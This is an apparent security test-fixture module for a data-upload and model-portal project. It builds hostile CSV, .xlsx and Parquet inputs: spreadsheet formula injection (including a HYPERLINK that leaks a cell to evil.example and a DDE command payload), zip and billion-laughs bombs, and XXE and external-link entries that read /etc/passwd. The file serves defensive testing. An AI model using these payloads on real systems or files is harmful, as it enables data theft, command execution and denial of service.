"""Hostile data files (CSV, .xlsx, Parquet), raw multipart bodies and a model that echoes text, for
tests/security/test_hostile_data.py. Every builder is cheap: bombs are built from their declared sizes or
from highly compressible parts, never by writing gigabytes."""

from __future__ import annotations

import codecs
import contextlib
import io
import signal
import uuid
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from mlflow.pyfunc import PythonModel

# Cells a spreadsheet runs as formulas (CSV injection), each as it must come back: with a leading apostrophe.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",  # a full-width equals sign
]
# Text that must come back unchanged: numbers stay numbers, and plain text is not touched.
HARMLESS = ["-1", "+2.5", "-3e-4", "plain text", "1-2", "a=b", ""]


@contextlib.contextmanager
def bounded(seconds: float):
    """Fail (TimeoutError) if the block runs longer than `seconds`: a reader that hangs must not hang the suite."""

    def expired(signum, frame):
        raise TimeoutError(f"took longer than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def multipart(fields: dict[str, str], *, filename: str, content: bytes) -> tuple[bytes, str]:
    """A multipart/form-data body with the file name exactly as given (test clients take only its basename)."""
    boundary = uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    quoted = filename.replace("\\", "\\\\").replace('"', '\\"')
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
                 "Content-Type: application/octet-stream\r\n\r\n".encode() + content + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


# --- CSV ------------------------------------------------------------------------------------------------------

ACCENTED = "name,city,n\nJosé,Zürich,1\nRené,Köln,2\n"


def utf16_csv() -> bytes:
    return codecs.BOM_UTF16_LE + ACCENTED.encode("utf-16-le")


def latin1_csv() -> bytes:
    return ACCENTED.encode("latin-1")


def wide_header_csv(columns: int = 100_000) -> bytes:
    return (",".join(f"c{i}" for i in range(columns)) + "\n" + ",".join("1" for _ in range(columns)) + "\n").encode()


def huge_cell_csv(size: int) -> bytes:
    return b"text,n\n" + b"x" * size + b",1\nshort,2\n"


# --- Excel ----------------------------------------------------------------------------------------------------

def xlsx(rows: list[list]) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_members(data: bytes, members: dict[str, bytes]) -> bytes:
    """The workbook with `members` added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in members:
                target.writestr(info, source.read(info.filename))
        for name, payload in members.items():
            target.writestr(name, payload)
    return out.getvalue()


def sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def with_sheet(data: bytes, xml: str) -> bytes:
    return with_members(data, {"xl/worksheets/sheet1.xml": xml.encode()})


def base_xlsx() -> bytes:
    return xlsx([["a", "b"], [1, "x"], [2, "y"]])


def zip_bomb_xlsx() -> bytes:
    # 8 MB of zeros packs into a few KB: the declared sizes alone give it away (ratio over 100).
    return with_members(base_xlsx(), {"xl/media/image1.bin": b"\0" * (8 << 20)})


def external_link_xlsx() -> bytes:
    """A workbook whose cell is a formula over another workbook (file:///etc/passwd), with Excel's cached value."""
    data = base_xlsx()
    xml = sheet_xml(data).replace('<c r="A2" t="n"><v>1</v></c>',
                                  '<c r="A2"><f>[1]Sheet1!A1</f><v>1</v></c>')
    link = ('<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            'r:id="rId1"/></externalLink>')
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
    return with_members(with_sheet(data, xml), {"xl/externalLinks/externalLink1.xml": link.encode(),
                                                "xl/externalLinks/_rels/externalLink1.xml.rels": rels.encode()})


_LAUGHS = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(2, 10)
)


def billion_laughs_xlsx() -> bytes:
    data = base_xlsx()
    dtd = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol1 "lol">{_LAUGHS}]>'
    xml = sheet_xml(data).replace('<c r="B2" t="inlineStr"><is><t>x</t></is></c>',
                                  '<c r="B2" t="inlineStr"><is><t>&lol9;</t></is></c>')
    return with_sheet(data, dtd + xml)


def external_entity_xlsx() -> bytes:
    data = base_xlsx()
    dtd = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    xml = sheet_xml(data).replace('<c r="B2" t="inlineStr"><is><t>x</t></is></c>',
                                  '<c r="B2" t="inlineStr"><is><t>&secret;</t></is></c>')
    return with_sheet(data, dtd + xml)


def understated_dimension_xlsx(rows: int = 3000) -> bytes:
    """The sheet says it is A1:B3 but holds `rows` more rows (openpyxl's read-only mode used to drop them)."""
    data = base_xlsx()
    extra = "".join(f'<row r="{i}"><c r="A{i}" t="n"><v>{i}</v></c></row>' for i in range(4, 4 + rows))
    return with_sheet(data, sheet_xml(data).replace("</sheetData>", extra + "</sheetData>"))


def far_away_cells_xlsx(rows: int = 3000) -> bytes:
    """No declared size; every row has a cell in column XFD (16,384) and the last row is numbered 999,999,999."""
    data = base_xlsx()
    xml = sheet_xml(data).replace('<dimension ref="A1:B3" />', "")
    extra = "".join(f'<row r="{i}"><c r="A{i}" t="n"><v>{i}</v></c><c r="XFD{i}" t="n"><v>9</v></c></row>'
                    for i in range(4, 4 + rows))
    extra += '<row r="999999999"><c r="A999999999" t="n"><v>7</v></c></row>'
    return with_sheet(data, xml.replace("</sheetData>", extra + "</sheetData>"))


def bad_cell_reference_xlsx() -> bytes:
    data = base_xlsx()
    return with_sheet(data, sheet_xml(data).replace(
        "</sheetData>", '<row r="4"><c r="ZZZZ4" t="n"><v>1</v></c></row></sheetData>'))


# --- Parquet --------------------------------------------------------------------------------------------------

def parquet(table: pa.Table, **options) -> bytes:
    sink = pa.BufferOutputStream()
    pq.write_table(table, sink, **options)
    return sink.getvalue().to_pybytes()


class UuidLike(pa.ExtensionType):
    """A user-defined extension type (16 bytes, like a UUID) as a data scientist's library might register it."""

    def __init__(self):
        super().__init__(pa.binary(16), "hostile.uuid")

    def __arrow_ext_serialize__(self) -> bytes:
        return b""

    @classmethod
    def __arrow_ext_deserialize__(cls, storage_type, serialized):
        return cls()


UUIDS = [uuid.UUID(int=i * 7919 + 1) for i in range(3)]


def extension_parquet() -> bytes:
    storage = pa.array([u.bytes for u in UUIDS], pa.binary(16))
    return parquet(pa.table({"id": pa.ExtensionArray.from_storage(UuidLike(), storage), "n": [1, 2, 3]}))


def arrow_uuid_parquet() -> bytes:
    storage = pa.array([u.bytes for u in UUIDS], pa.binary(16))
    return parquet(pa.table({"id": pa.ExtensionArray.from_storage(pa.uuid(), storage)}))


def unknown_extension_metadata_parquet(name: bytes = b"hostile.unknown", kind=pa.string()) -> bytes:
    field = pa.field("x", kind, metadata={b"ARROW:extension:name": name, b"ARROW:extension:metadata": b"\x00\xff"})
    values = pa.array(["a", "b"] if kind == pa.string() else [1, 2], kind)
    return parquet(pa.Table.from_arrays([values], schema=pa.schema([field])))


def nested_parquet() -> bytes:
    return parquet(pa.table({
        "s": pa.array([{"a": 1, "b": "x"}, None, {"a": 2, "b": "y"}]),
        "l": pa.array([[1, 2], [], None]),
        "m": pa.array([[("k", 1)], None, []], pa.map_(pa.string(), pa.int64())),
    }))


def dictionary_parquet() -> bytes:
    return parquet(pa.table({"d": pa.array(["a", "b", "a"]).dictionary_encode(),
                             "i": pa.array([10, 20, 10]).dictionary_encode()}))


def many_rows_parquet(rows: int) -> bytes:
    """`rows` rows of one repeated value in one row group: a few KB however many rows it declares."""
    return parquet(pa.table({"x": pa.repeat(pa.scalar(0, pa.int64()), rows)}), row_group_size=rows)


# --- A model that answers with the text it was given (its answers go into exports) -------------------------

class EchoModel(PythonModel):
    def predict(self, context, model_input, params=None):
        return [str(v) for v in model_input["note"]]


def echo_version(project, actor, tmp_path: Path):
    """A servable version whose inputs are `age` (whole number) and `note` (text) and whose answer is the note."""
    import mlflow.pyfunc
    import pandas as pd
    from mlflow.models import infer_signature

    from apps.registry import mlflow_store
    from apps.registry.models import ModelVersion, RegisteredModel

    frame = pd.DataFrame({"age": [30, 40], "note": ["a", "b"]})
    directory = tmp_path / "echo"
    mlflow_store.configure()
    mlflow.pyfunc.save_model(str(directory), python_model=EchoModel(), signature=infer_signature(frame, ["a", "b"]))
    model = RegisteredModel.objects.create(project=project, name="Echo", slug="echo", created_by=actor)
    stored = mlflow_store.store_directory(directory, registered_name=f"portal.{model.slug}",
                                          project_slug=project.slug, tags={})
    return ModelVersion.objects.create(
        model=model, number=1, status=ModelVersion.Status.READY, format="mlflow", created_by=actor,
        sha256="e" * 64, artifact_sha256=stored.artifact_sha256, mlflow_model_uri=stored.model_uri,
        signature={"inputs": [{"name": "age", "type": "long"}, {"name": "note", "type": "string"}],
                   "outputs": []})
